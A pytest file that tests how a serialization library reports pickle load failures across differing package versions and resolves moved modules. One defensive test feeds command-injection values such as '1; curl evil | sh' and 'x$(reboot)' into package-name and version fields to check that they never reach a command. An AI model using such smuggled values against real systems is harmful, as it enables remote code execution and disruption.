"""Pickles that cannot be loaded or name what another version lacks: the object, and the versions on both sides."""

from __future__ import annotations

import copyreg
import importlib
import pickle
import sys
import types
from pathlib import Path
from typing import Any, Optional, Protocol, TypedDict, TypeVar

import pytest

from clusterfn.hosts import serialization
from tests.sent import pickled, unpickled

container = serialization.part("container")
load_failure = serialization.part("load_failure")
TOYLIB = """
import copyreg
import threading

__version__ = "2.0"


class Stateful:
    def __init__(self):
        self.kept = 1

    def __setstate__(self, state):
        if __version__ != "2.0":
            raise AttributeError("'Stateful' object has no attribute 'exclude_if'")
        vars(self).update(state)


class Made:
    def __new__(cls, *args):
        if __version__ != "2.0" and not args:
            raise TypeError("it wants arguments")
        return object.__new__(cls)


class Reduced:
    def __reduce__(self):
        return build, (1,)


def build(n):
    if __version__ != "2.0":
        raise ValueError(n)
    return Reduced()


class Gone:
    pass


class Registered:
    def __init__(self, n):
        self.lock = threading.Lock()


def rebuild(n):
    if __version__ != "2.0":
        raise ValueError(n)
    return Registered(n)


copyreg.pickle(Registered, lambda made: (rebuild, (7,)))
"""


@pytest.fixture
def toylib(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """A package that is installed, in its version 2.0."""
    folder = tmp_path / "site-packages"
    (folder / "toylib").mkdir(parents=True)
    (folder / "toylib" / "__init__.py").write_text(TOYLIB)
    monkeypatch.syspath_prepend(folder)
    made = importlib.import_module("toylib")
    yield made
    sys.modules.pop("toylib", None)
    copyreg.dispatch_table.pop(made.Registered)


def failure_of(value: Any, toylib: Any) -> Any:
    """What is said of a value that was pickled with version 2.0, and cannot be loaded with 1.0."""
    data = b"".join(container.pack({"a": [1, value]}).pieces())
    toylib.__version__ = "1.0"
    del toylib.Gone
    with pytest.raises((AttributeError, TypeError, ValueError)) as caught:
        container.loads(data)
    return load_failure.of(caught.value)


@pytest.mark.parametrize(
    ("name", "failed"),
    [("Stateful", "Stateful"), ("Made", "Made"), ("Reduced", "build"), ("Gone", "Gone")],
    ids=["by its state", "by its constructor", "by a function", "a class that is gone"],
)
def test_the_object_and_both_versions_are_named(toylib, name, failed):
    failure = failure_of(getattr(toylib, name)(), toylib)

    assert failure.name == f"toylib.{failed}" and failure.differing == (("toylib", "2.0", "1.0"),)
    assert failure.where() == f", in toylib.{failed}; toylib is 2.0 where it was sent and 1.0 where it arrived"


def test_the_module_that_cython_writes_into_a_name_is_named_once():
    def array() -> None: ...

    array.__module__, array.__qualname__ = "cupy._core.core", "cupy._core.core.array"

    assert load_failure.full_name(array) == "cupy._core.core.array"


def test_a_package_tells_how_its_objects_are_reduced_and_its_failure_names_both_versions(toylib):
    value = toylib.Registered(7)
    packed = b"".join(container.pack(value).pieces())

    assert type(container.loads(packed)) is toylib.Registered
    failure = failure_of(value, toylib)
    assert failure.where() == ", in toylib.rebuild; toylib is 2.0 where it was sent and 1.0 where it arrived"


def test_equal_versions_are_not_named(toylib):
    data = b"".join(container.pack([toylib.Gone()]).pieces())
    del toylib.Gone
    with pytest.raises(AttributeError) as caught:
        container.loads(data)

    assert load_failure.of(caught.value) == ("toylib.Gone", ())


def test_of_many_packages_the_one_that_failed_is_named_first(toylib, monkeypatch):
    others = {f"away{number}": "1.0" for number in range(5)}
    monkeypatch.setattr(load_failure, "versions", lambda kinds: {**others, "toylib": "2.0"})

    differing = failure_of(toylib.Gone(), toylib).differing

    assert differing == (("toylib", "2.0", "1.0"), ("away0", "1.0", "missing"), ("away1", "1.0", "missing"))


def test_a_package_that_says_no_version_is_known_by_its_metadata(toylib):
    del toylib.__version__
    (Path(toylib.__file__).parents[1] / "toylib-3.1.dist-info").mkdir()

    assert load_failure.versions([toylib.Gone, int, Path]) == {"toylib": "3.1"}


@pytest.mark.parametrize(
    ("name", "version"),
    [("toylib", "1; curl evil | sh"), ("x$(reboot)", "1.0"), ("", "1.0"), ("toylib", "\x1b[2J"), ("--index-url", "1")],
)
def test_what_is_no_package_or_version_gets_into_no_command(toylib, monkeypatch, name, version):
    monkeypatch.setattr(load_failure, "versions", lambda kinds: {name: version})

    assert failure_of(toylib.Gone(), toylib) == ("toylib.Gone", ())


def test_an_error_that_nothing_was_asked_of_can_be_pickled(toylib):
    data = b"".join(container.pack(toylib.Gone()).pieces())
    del toylib.Gone
    with pytest.raises(AttributeError) as failed:
        container.loads(data)

    assert str(pickle.loads(pickle.dumps(failed.value))) == str(failed.value)
    assert load_failure.of(pickle.loads(pickle.dumps(failed.value))).name == ""


@pytest.fixture
def package(monkeypatch):
    """A package `moving` whose modules are gone; it has a class Foo."""
    module = types.ModuleType("moving")
    module.__path__ = []  # type: ignore[attr-defined]
    module.Foo = type("Foo", (), {"__module__": "moving"})  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "moving", module)
    return module


def named(module: str, name: str) -> bytes:
    return pickle.dumps(len, 2).replace(b"c__builtin__\nlen\n", f"c{module}\n{name}\n".encode())


def test_an_object_of_a_private_module_is_found_in_the_package(package):
    assert unpickled(named("moving._private", "Foo")) is package.Foo


def test_an_object_of_a_public_module_is_not_taken_for_another_of_that_name(package):
    with pytest.raises(ModuleNotFoundError):
        unpickled(named("moving.models", "Foo"))


class Counts:
    """Raises in its own code, which must not run twice."""

    calls = 0

    def __setstate__(self, state):
        type(self).calls += 1
        raise AttributeError("no such part")


def test_an_error_of_the_users_own_code_is_that_error_and_runs_it_once():
    value = Counts()
    value.__dict__["a"] = 1

    with pytest.raises(AttributeError, match="no such part"):
        unpickled(pickle.dumps(value))
    assert Counts.calls == 1


def test_a_submodule_that_the_other_version_does_not_have_keeps_no_function_from_running(package, monkeypatch):
    monkeypatch.setitem(sys.modules, "moving.linear", types.ModuleType("moving.linear"))
    package.__package__, package.linear = "moving", types.SimpleNamespace(norm=abs)
    scope = {"moving": package, "__name__": "__main__"}
    exec("def norm(): return moving.linear.norm(-3)", scope)
    data = pickled(scope["norm"])

    monkeypatch.delitem(sys.modules, "moving.linear")

    assert b"moving.linear" in data
    assert unpickled(data)() == 3


@pytest.mark.parametrize("name", ["no_such_package", "no_such_package.linear"])
def test_a_package_that_is_missing_altogether_is_an_error(name):
    with pytest.raises(ModuleNotFoundError, match="no_such_package"):
        unpickled(named(name, "anything"))


def test_a_type_that_only_annotations_name_keeps_nothing_from_being_loaded(package):
    package.__file__ = "/site-packages/moving/__init__.py"
    buffer = types.new_class("_Buffer", (Protocol[TypeVar("T")],))
    kinds = (buffer, TypedDict("_Table", {"a": int}), TypeVar("_Item_co"))
    for kind in kinds:
        kind.__module__ = "moving"
        setattr(package, kind.__name__, kind)
    hints = [Optional[buffer[int]], *(list[kind] for kind in kinds[1:])]
    packed = pickled(hints)

    assert unpickled(packed) == hints
    for kind in kinds:
        delattr(package, kind.__name__)
    assert len(unpickled(packed)) == 3
